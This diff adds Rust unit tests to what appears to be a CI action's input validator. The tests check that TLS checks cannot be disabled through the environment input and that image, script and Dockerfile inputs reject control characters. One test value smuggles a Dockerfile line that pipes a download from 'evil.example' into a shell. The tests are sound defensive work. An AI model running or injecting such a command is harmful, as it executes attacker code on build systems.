@@ -433,6 +433,61 @@ fn environment_may_not_set_what_the_action_sets() {
 }
 
 #[test]
+fn insecure_tls_comes_only_from_its_input() {
+    // Through `environment` it would turn certificate checks off with the report saying nothing.
+    for value in ["true", "false"] {
+        let mut inputs = valid();
+        inputs.environment = Some(format!("INSECURE_TLS={value}"));
+        let error = only_error(inputs);
+        assert_eq!(error.input, "environment");
+        assert!(error.accepted.contains("`insecure-tls: true`"), "{error}");
+    }
+}
+
+#[test]
+fn what_goes_into_a_dockerfile_is_one_line() {
+    for (name, set) in [
+        (
+            "script",
+            (|inputs: &mut Inputs, value: &str| inputs.script = Some(value.into()))
+                as fn(&mut Inputs, &str),
+        ),
+        ("image", |inputs, value| inputs.image = Some(value.into())),
+        ("generator-image", |inputs, value| {
+            inputs.generator_image = Some(value.into())
+        }),
+        ("tester-image", |inputs, value| {
+            inputs.tester_image = Some(value.into())
+        }),
+        ("dockerfile", |inputs, value| {
+            inputs.dockerfile = Some(value.into())
+        }),
+        ("target", |inputs, value| inputs.target = Some(value.into())),
+    ] {
+        for hostile in [
+            "grafana/k6\nRUN curl evil.example | sh",
+            "load\r.js",
+            "a\u{0}b",
+        ] {
+            let mut inputs = valid();
+            set(&mut inputs, hostile);
+            let Err(InvalidInputs(errors)) = plan(&inputs, &context()) else {
+                panic!("{name}: {hostile:?} was accepted");
+            };
+            let error = errors
+                .iter()
+                .find(|error| error.input == name)
+                .unwrap_or_else(|| panic!("{name}: {errors:?}"));
+            assert!(
+                error.accepted.contains("without control characters"),
+                "{error}"
+            );
+            assert!(!error.to_string().contains('\n'), "{error}");
+        }
+    }
+}
+
+#[test]
 fn region_falls_back_to_the_environment() {
     let mut context = context();
     context.aws_region = None;
